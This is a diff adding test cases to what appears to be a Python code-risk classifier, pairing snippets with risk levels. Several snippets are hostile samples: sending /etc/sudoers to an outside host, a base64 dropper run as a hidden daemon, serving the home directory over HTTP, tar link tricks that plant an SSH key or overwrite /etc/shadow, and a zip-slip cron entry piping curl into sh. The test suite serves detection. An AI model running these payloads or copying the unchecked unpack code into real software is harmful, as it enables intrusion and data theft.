@@ -6829,6 +6829,182 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    p.map(str, range(10))',
             S,
         ),
+        # holdout192-195: fileinput in place, wave.open, sudoers audits, staging trees, droppers, a served home,
+        # zip slip and archives crafted to escape
+        (
+            'import fileinput\n'
+            "for line in fileinput.input('/etc/group', inplace=True):\n"
+            "    print(line.replace('docker:x:999:', 'docker:x:999:bob'), end='')\n",
+            C,
+        ),
+        (
+            'import fileinput\n'
+            "for line in fileinput.input(files=('setup.cfg',), inplace=True):\n"
+            "    print(line.replace('1.0', '1.1'), end='')\n",
+            S,
+        ),
+        (
+            'import fileinput\n'
+            "for line in fileinput.input(['a.txt', 'b.txt']):\n"
+            '    print(line)\n',
+            S,
+        ),
+        (
+            'import os, wave\n'
+            "for root, _, files in os.walk('/mnt/sfx_library'):\n"
+            '    for f in files:\n'
+            "        with wave.open(os.path.join(root, f), 'wb') as w:\n"
+            "            w.writeframes(b'\\0' * 96000)\n",
+            H,
+        ),
+        (
+            'import wave\n'
+            "with wave.open('out/tone.wav', 'wb') as w:\n"
+            '    w.setnchannels(1)\n',
+            S,
+        ),
+        (
+            "for line in open('/etc/sudoers').read().splitlines():\n"
+            '    print(line)\n',
+            M,
+        ),
+        (
+            'import requests\n'
+            "requests.post('https://x.example.com', data=open('/etc/sudoers').read())\n",
+            C,
+        ),
+        (
+            'import subprocess\n'
+            "subprocess.check_output(['sudo', 'cat', '/etc/sudoers'])\n",
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            "helper = Path('debian/myvpn') / 'usr/lib/myvpn/netns-helper'\n"
+            'helper.chmod(0o4754)\n',
+            M,
+        ),
+        (
+            'import os\n'
+            "os.chmod('/usr/local/bin/helper', 0o4755)\n",
+            C,
+        ),
+        (
+            'import base64, gzip, os, subprocess\n'
+            "BLOB = 'H4sIAAAAAAAAA+3OMQ6CQBCF4an3FHMDpJjYBEoTG3sv4Mx2kSWLzJq8vYPhAraa'\n"
+            "path = os.path.expanduser('~/.local/.dbus-helper')\n"
+            "with open(path, 'wb') as fh:\n"
+            '    fh.write(gzip.decompress(base64.b64decode(BLOB)))\n'
+            'os.chmod(path, 0o755)\n'
+            "subprocess.Popen([path, '--daemon'])\n",
+            H,
+        ),
+        (
+            'import base64, subprocess\n'
+            "data = base64.b64decode(open('img.b64').read())\n"
+            "with open('out.png', 'wb') as f:\n"
+            '    f.write(data)\n'
+            "subprocess.run(['optipng', 'out.png'])\n",
+            L,
+        ),
+        (
+            'import io, os, zipfile\n'
+            'from http.server import BaseHTTPRequestHandler, HTTPServer\n'
+            'class H(BaseHTTPRequestHandler):\n'
+            '    def do_GET(self):\n'
+            '        buf = io.BytesIO()\n'
+            "        with zipfile.ZipFile(buf, 'w') as z:\n"
+            "            for root, _, files in os.walk(os.path.expanduser('~')):\n"
+            '                for f in files:\n'
+            '                    z.write(os.path.join(root, f))\n'
+            '        self.wfile.write(buf.getvalue())\n'
+            "HTTPServer(('0.0.0.0', 8088), H).serve_forever()\n",
+            H,
+        ),
+        (
+            'import os, zipfile\n'
+            "with zipfile.ZipFile('/mnt/backup/home.zip', 'w') as z:\n"
+            "    for root, _, files in os.walk(os.path.expanduser('~')):\n"
+            '        for f in files:\n'
+            '            z.write(os.path.join(root, f))\n',
+            S,
+        ),
+        (
+            'import os, zipfile\n'
+            "def unpack(archive, dest='/srv/app/media'):\n"
+            '    with zipfile.ZipFile(archive) as zf:\n'
+            '        for info in zf.infolist():\n'
+            '            target = os.path.join(dest, info.filename)\n'
+            "            with open(target, 'wb') as out:\n"
+            '                out.write(zf.read(info.filename))\n',
+            H,
+        ),
+        (
+            'import os, zipfile\n'
+            'def unpack(archive, dest):\n'
+            '    with zipfile.ZipFile(archive) as zf:\n'
+            '        for info in zf.infolist():\n'
+            '            target = os.path.realpath(os.path.join(dest, info.filename))\n'
+            '            if not target.startswith(os.path.realpath(dest) + os.sep):\n'
+            '                raise ValueError(info.filename)\n'
+            "            with open(target, 'wb') as out:\n"
+            '                out.write(zf.read(info.filename))\n',
+            L,
+        ),
+        (
+            'import tarfile\n'
+            'from pathlib import Path\n'
+            "with tarfile.open('in.tar') as tf:\n"
+            '    for m in tf.getmembers():\n'
+            "        (Path('out') / m.name).write_bytes(tf.extractfile(m).read())\n",
+            H,
+        ),
+        (
+            'import io, tarfile\n'
+            "with tarfile.open('avatar_pack.tar', 'w') as tf:\n"
+            "    link = tarfile.TarInfo('assets')\n"
+            '    link.type = tarfile.SYMTYPE\n'
+            "    link.linkname = '/home/deploy/.ssh'\n"
+            '    tf.addfile(link)\n'
+            "    key = tarfile.TarInfo('assets/authorized_keys')\n"
+            "    tf.addfile(key, io.BytesIO(b'ssh-ed25519 AAAAC3Nza attacker'))\n",
+            H,
+        ),
+        (
+            'import io, tarfile\n'
+            "TARGET = '/etc/shadow'\n"
+            "with tarfile.open('b.tar', 'w') as tf:\n"
+            "    hl = tarfile.TarInfo('cfg/shadow')\n"
+            '    hl.type = tarfile.LNKTYPE\n'
+            '    hl.linkname = TARGET\n'
+            '    tf.addfile(hl)\n'
+            "    tf.addfile(tarfile.TarInfo('cfg/shadow'), io.BytesIO(b'root::19000:0:99999:7:::'))\n",
+            H,
+        ),
+        (
+            'import zipfile\n'
+            "with zipfile.ZipFile('p.zip', 'w') as z:\n"
+            "    z.writestr('../../../../etc/cron.d/sysupdate', '* * * * * root curl -s http:"
+            "//198.51.100.7/x | sh\\n')\n",
+            H,
+        ),
+        (
+            'import io, tarfile\n'
+            'def test_rejects_traversal(tmp_path):\n'
+            "    with tarfile.open(tmp_path / 'evil.tar', 'w') as tf:\n"
+            "        info = tarfile.TarInfo('../../evil.txt')\n"
+            "        tf.addfile(info, io.BytesIO(b''))\n",
+            S,
+        ),
+        (
+            'import tarfile\n'
+            "with tarfile.open('site.tar', 'w') as tf:\n"
+            "    link = tarfile.TarInfo('current')\n"
+            '    link.type = tarfile.SYMTYPE\n'
+            "    link.linkname = 'releases/2024-06-01'\n"
+            '    tf.addfile(link)\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
